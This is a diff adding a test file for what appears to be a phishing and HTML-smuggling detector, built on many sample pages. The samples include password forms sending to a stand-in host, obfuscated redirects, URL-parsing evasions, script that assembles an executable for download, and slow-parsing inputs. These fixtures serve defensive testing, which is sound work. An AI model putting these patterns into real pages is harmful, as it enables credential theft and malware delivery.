@@ -1,0 +1,146 @@
+import { strToU8 } from 'fflate';
+import { describe, expect, it } from 'vitest';
+import { hasKeyOf, inspectSample, modelsAsked, processorMs, signsOf } from '../testing/inspect-sample.ts';
+import { buildMail, WORDS } from '../testing/samples.ts';
+
+const BAIT = 'login.example.com';
+const FORM = `<form action="https://${BAIT}/p"><input type="password"></form>`;
+const PASSWORD = 'a page sent as a file that asks for a password and sends it elsewhere';
+const SMUGGLED = 'a page that puts a file together by script and hands it over as a download';
+const UNREAD = 'what a script in the page does is not worked out here';
+
+function base64(text: string): string {
+  return Buffer.from(text).toString('base64');
+}
+
+describe('what a page holds beside its words', () => {
+  it.each([
+    ['a page in a frame', `<iframe srcdoc="${FORM.replaceAll('"', '&quot;')}"></iframe>`],
+    ['a page in an address', `<iframe src="data:text/html;base64,${base64(FORM)}"></iframe>`],
+    ['a page in an escaped address', `<object data="data:text/html,${encodeURIComponent(FORM)}"></object>`],
+    ['a field that is only named so', `<form action="https://${BAIT}/p"><input name="passwd"></form>`],
+    [
+      'a button that sends a form elsewhere',
+      `<form><input type="password"><button formaction="https://${BAIT}/p"></button></form>`,
+    ],
+  ])('is read: %s', async (_, html) => {
+    const inspection = await inspectSample(`<html><p>${WORDS}</p>${html}`, 'a.html');
+    expect(signsOf(inspection)).toContain(PASSWORD);
+    expect(hasKeyOf(inspection, 'domain', BAIT)).toBe(true);
+  });
+
+  it.each([
+    ['a script', `<script>window.location="https://${BAIT}/x"</script>`],
+    ['an escaped string', `<script>top.location="\\x68ttps:\\/\\/${BAIT}/x"</script>`],
+    ['a packed string', `<script>location=atob("${base64(`https://${BAIT}/x`)}")</script>`],
+    ['an event', `<body onload="location='https://${BAIT}/x'">`],
+    ['an address that is a script', `<a href="javascript:location='https://${BAIT}/x'">x</a>`],
+    ['an escaped address', `<a href="javascript:location=%22https://${BAIT}/x%22">x</a>`],
+    ['a script of another site', `<script src="https://${BAIT}/x.js"></script>`],
+  ])('is looked up, and said to be unread: %s', async (_, html) => {
+    const inspection = await inspectSample(`<html><p>${WORDS}</p>${html}`, 'a.html');
+    expect(hasKeyOf(inspection, 'domain', BAIT)).toBe(true);
+    expect(inspection.unsupported).toBe(UNREAD);
+  });
+
+  it.each([
+    ['a line in an address', `<a href="ht\ntps://${BAIT}/x">`],
+    ['slashes the other way', `<a href="https:\\\\${BAIT}/x">`],
+    ['no slashes', `<a href="https:${BAIT}/x">`],
+    ['a control character before it', `<a href="\x01https://${BAIT}/x">`],
+    ['a redirection in quotes', `<meta http-equiv="Refresh " content="0;URL='https://${BAIT}/x'">`],
+    ['a redirection without a word', `<meta http-equiv="refresh" content="0; https://${BAIT}/x">`],
+    ['what only looks like a comment', `<![CDATA[ > see https://${BAIT}/x ]]>`],
+    ['a template that is shown', `<template shadowrootmode="open">see https://${BAIT}/x</template>`],
+    ['what is shown without scripts', `<noscript>see https://${BAIT}/x</noscript>`],
+    ['a button', `<input type="button" value="see https://${BAIT}/x">`],
+  ])('is read as browsers do: %s', async (_, html) => {
+    const inspection = await inspectSample(`<html><p>${WORDS}</p>${html}`, 'a.html');
+    expect(hasKeyOf(inspection, 'domain', BAIT)).toBe(true);
+    expect(inspection.unsupported).toBeUndefined();
+  });
+
+  it.each([
+    ['a page', `<html><p>${WORDS}</p><img src="https://${BAIT}/x.png">`, 'a.html'],
+    ['a mail', buildMail(['Content-Type: text/html'], `<p>${WORDS}</p><img src="//${BAIT}/x.png">`), 'a.eml'],
+  ])('is looked up but not judged: a picture of %s', async (_, text, name) => {
+    const inspection = await inspectSample(text, name);
+    expect(hasKeyOf(inspection, 'domain', BAIT)).toBe(true);
+    expect(modelsAsked(inspection)).toEqual(['text_model']);
+  });
+
+  it.each(['java\tscript:x()', '\x01javascript:x()'])('is a script in an address: %j', async (address) => {
+    const page = `<html><p>${WORDS}</p><a href="${address}">x</a>`;
+    expect((await inspectSample(page, 'a.html')).unsupported).toBe(UNREAD);
+  });
+
+  it('runs its scripts where it is kept in the form of a mail', async () => {
+    const page = `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>${WORDS}<script>x()</script>`;
+    expect((await inspectSample(page, 'a.mht')).unsupported).toBe(UNREAD);
+  });
+
+  it('is a drawing with links and scripts', async () => {
+    const drawing = `<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="https://${BAIT}/x"><text>${WORDS}`;
+    const inspection = await inspectSample(drawing, 'a.svg');
+    expect(hasKeyOf(inspection, 'domain', BAIT)).toBe(true);
+    expect(inspection.unsupported).toBeUndefined();
+    const withScript = await inspectSample(`${drawing}<script href="data:text/javascript,x"/>`, 'a.svg');
+    expect(withScript.unsupported).toBe(UNREAD);
+  });
+
+  it.each([
+    ['data', `<script type="application/ld+json">{"url":"https://${BAIT}/x"}</script>`],
+    ['an empty script', '<script> </script>'],
+  ])('is no script that runs: %s', async (_, html) => {
+    expect((await inspectSample(`<html><p>${WORDS}</p>${html}`, 'a.html')).unsupported).toBeUndefined();
+  });
+
+  it('does not run in a mail, where a script is no reason for doubt', async () => {
+    const mail = buildMail(['Content-Type: text/html'], `<html><p>${WORDS}<script>var a = 1</script>`);
+    const inspection = await inspectSample(mail, 'a.eml');
+    expect(inspection.unsupported).toBeUndefined();
+    expect(modelsAsked(inspection)).toEqual(['text_model']);
+  });
+
+  it.each([
+    ['in pieces', `"${Array.from({ length: 80 }, () => 'TVqQ'.repeat(9)).join('" +\n"')}"`],
+    ['in numbers', `[${'77, 90, 144, 0, '.repeat(150)}0]`],
+    ['in escapes', `"${'\\x4d\\x5a'.repeat(300)}"`],
+  ])('is a file put together by script: %s', async (_, file) => {
+    const page = `<html><script>var f=${file};var u=URL.createObjectURL(new Blob([f]))</script>`;
+    expect(signsOf(await inspectSample(page, 'a.html'))).toEqual([SMUGGLED]);
+  });
+
+  it.each([
+    [
+      'XHTML',
+      `<?xml version="1.0"?><html><body><p>${WORDS}</p><a href="&#104;ttps://login&#46;example.com">`,
+    ],
+    [
+      'a piece of a page',
+      `<!-- a --><!-- b --><center>${WORDS}<a href="&#104;ttps://login&#46;example.com">`,
+    ],
+  ])('is known for a page whatever its name: %s', async (_, page) => {
+    expect(hasKeyOf(await inspectSample(page, 'a.xml'), 'domain', BAIT)).toBe(true);
+  });
+
+  it('is said to be unread where there is too much of it', async () => {
+    const frames = '<iframe srcdoc="<p>x"></iframe>'.repeat(60);
+    const inspection = await inspectSample(`<html><p>${WORDS}</p>${frames}`, 'a.html');
+    expect(inspection.unsupported).toBeDefined();
+    const longHead = `<iframe src="data:text/html;${'x=y;'.repeat(400)},x"></iframe>`;
+    expect((await inspectSample(`<html><p>${WORDS}</p>${longHead}`, 'a.html')).unsupported).toBeDefined();
+  });
+
+  it.each([
+    ['nearly hidden files', `<script>${`${'\\x41'.repeat(499)} ${'A'.repeat(1999)} `.repeat(300)}`],
+    ['events', `<p onclick="${'\\x41'.repeat(499)} ${`${'A'.repeat(1999)} `.repeat(600)}">`],
+    ['blanks', `<a href="${' '.repeat(500_000)}x">`],
+    ['slashes', `<a href="${'/'.repeat(500_000)}">`],
+    ['delays', `<meta http-equiv="refresh" content="${'0 '.repeat(300_000)}">`],
+    ['quotes', `<script>${'"+ '.repeat(400_000)}`],
+  ])('is looked at in no time: %s', async (_, html) => {
+    const page = strToU8(`<html>${html}`);
+    expect(await processorMs(() => inspectSample(page, 'a.html'))).toBeLessThan(1000);
+  });
+});
